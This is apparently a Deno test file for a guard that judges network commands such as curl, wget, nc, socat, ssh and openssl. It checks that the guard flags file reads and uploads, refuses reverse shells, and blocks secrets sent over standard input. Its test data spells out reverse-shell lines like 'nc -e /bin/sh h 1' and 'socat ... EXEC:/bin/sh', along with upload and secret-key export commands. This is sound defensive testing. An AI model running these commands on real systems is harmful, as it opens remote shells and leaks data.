// Tests of the rules for the tools of the network: each file that goes out is read, each
// that comes in is written and remembered.

import { assert, assertEquals } from "@std/assert";
import fc from "fast-check";
import { Arg, type Stream } from "../call.ts";
import { NETWORK } from "./network.ts";
import { record, split } from "./recorded.ts";

const said = (line: string) => record(NETWORK, split(line)).said;
const refused = (line: string, stdin?: Stream) =>
  record(NETWORK, split(line), stdin).said.some((each) => each.startsWith("deny"));
const SECRET: Stream = { origin: "file", secret: true };

Deno.test("guard network: curl reads every file that goes out", () => {
  for (
    const words of [
      "-d @f u",
      "--data-binary @f u",
      "--data-asc @f u",
      "--json @f u",
      "--data-urlencode n@f u",
      "--data-urlencode @f u",
      "-F x=@f u",
      "-F x=<f u",
      "-sF x=@f;type=a/b u",
      "-F x=@a,f u",
      "-T f u",
      "-sTf u",
      "--upload-f f u",
      "-H @f u",
      "-b f u",
      "-K f u",
      "-w @f u",
      "file:f",
      "file://localhost/f",
      "FILE:///f",
    ]
  ) assert(said(`curl ${words}`).some((each) => /^read \/?f$/.test(each)), words);
  assertEquals(said("curl --data-raw @f u"), ["network u"]);
  assertEquals(said("curl -F x=f -b a=b u"), ["network u"]);
  assert(said("curl file:///h/%69d").includes("read /h/id"));
});

Deno.test("guard network: curl writes what it is told to, and what it names itself", () => {
  assertEquals(said("curl -sSLo f https://h/x"), ["network https://h/x", "write f", "wrote f download"]);
  assertEquals(said("curl --output-dir d -O https://h/a/x?q=1"), [
    "network https://h/a/x?q=1",
    "write d/x",
    "wrote d/x download",
  ]);
  for (const option of ["-c", "-D", "--trace", "--stderr", "--libcurl", "--etag-save"]) {
    assert(said(`curl ${option} f u`).includes("write f"));
  }
  assert(said("curl -w %output{f} u").includes("write f"));
  assertEquals(record(NETWORK, split("curl -s https://h/x")).printed, { origin: "download" });
  assert(said("curl --unix-socket s u").includes("ask option"));
  assert(said("curl -x http://p u").includes("network http://p"));
  assertEquals(said("curl --version"), []);
});

Deno.test("guard network: wget alike", () => {
  assertEquals(said("wget -qO- https://h/x"), ["network https://h/x"]);
  assertEquals(said("wget -P d https://h/x"), ["network https://h/x", "write d/x", "wrote d/x download"]);
  assert(said("wget --post-file=f u").includes("read f"));
  assert(said("wget -i f").includes("read f"));
  assert(said("wget --use-askpass=x u").includes("run x"));
  assertEquals(said("wget --version"), []);
});

Deno.test("guard network: what stands for a shell on a connection is refused", () => {
  for (
    const line of [
      "nc -e /bin/sh h 1",
      "nc -lvp 1 -e sh",
      "ncat h 1 -c sh",
      "ncat --sh-exec sh h 1",
      "nc -nve sh h 1",
      "socat TCP:h:1 EXEC:/bin/sh",
      "socat exec:sh,pty tcp4:h:1",
      "socat OPENSSL:h:1 SYSTEM:sh",
      "socat TCP-LISTEN:1,fork EXEC:sh",
    ]
  ) assert(refused(line), line);
  for (const line of ["nc -zv localhost 80", "socat TCP-LISTEN:80 TCP:h:80", "telnet h 25"]) {
    assert(!refused(line), line);
  }
  assert(said("socat - EXEC:id").includes("shell id"));
});

Deno.test("guard network: a secret on standard input does not leave", () => {
  for (
    const line of [
      "nc h 1",
      "curl -d @- u",
      "curl -T - u",
      "curl -F f=@- u",
      "wget --post-file=- u",
      "ssh h",
      "socat - TCP:h:1",
      "http POST u",
      "openssl s_client -connect h:1",
      "mail a@b",
    ]
  ) {
    assert(refused(line, SECRET), line);
    assert(!refused(line), line);
  }
});

Deno.test("guard network: the command for the other machine and those of settings are judged", () => {
  assert(said("ssh -p 22 h rm -rf x").includes("shell rm -rf x"));
  assert(said("ssh h -t rm x").includes("shell rm x"));
  assert(said("ssh -o ProxyCommand=id h").includes("shell id"));
  assert(record(NETWORK, ["ssh", "-o", "proxycommand id -u", "h"]).said.includes("shell id -u"));
  assert(said("scp -S ./x a h:").includes("run ./x"));
  assert(said("scp -r a b h:c").includes("read a recursive"));
  assert(said("scp h:a b").includes("write b"));
  assert(!said("ssh -i k h").some((each) => each.startsWith("read")));
});

Deno.test("guard network: certificates and digests are looked at, keys ask", () => {
  assertEquals(said("openssl x509 -in c.pem -noout -text"), ["read c.pem"]);
  assertEquals(said("openssl dgst -sha256 f"), ["read f"]);
  assert(said("openssl rsa -in k").includes("read k"));
  assert(said("openssl rsa -in k").includes("ask keys"));
  assert(said("openssl req -x509 -newkey rsa:2048 -keyout k -out c").includes("write k"));
  assertEquals(record(NETWORK, split("openssl base64 -d"), { origin: "words" }).printed.origin, "rewritten");
  assertEquals(said("gpg --list-keys"), []);
  assert(refused("gpg --export-secret-key x"));
  assertEquals(said("ssh-keygen -lf k.pub"), ["read k.pub"]);
  assert(said("ssh-keygen -t ed25519 -f k").includes("write k"));
  assertEquals(said("ssh-add -l"), []);
});

Deno.test("guard network: no rule throws, and only curl and wget leave it to the place alone", () => {
  const word = fc.oneof(
    fc.constantFrom(
      "-",
      "--",
      "-o",
      "-d",
      "@f",
      "http://h/x",
      "file:///%zz",
      "-e",
      "TCP:h:1",
      "EXEC:x",
      "-F",
      "a=@",
      "[",
      "{",
    ),
    fc.string(),
    fc.constant(Arg.unknown("it is", true)),
  );
  fc.assert(
    fc.property(fc.constantFrom(...NETWORK.keys()), fc.array(word, { maxLength: 5 }), (name, words) => {
      record(NETWORK, [name, ...words]);
    }),
    { numRuns: 2000 },
  );
  for (const name of ["ping", "dig", "ssh", "scp", "nc", "telnet", "whois", "http", "nmap"]) {
    assert(said(`${name} h`).some((each) => each.startsWith("ask")), name);
  }
});
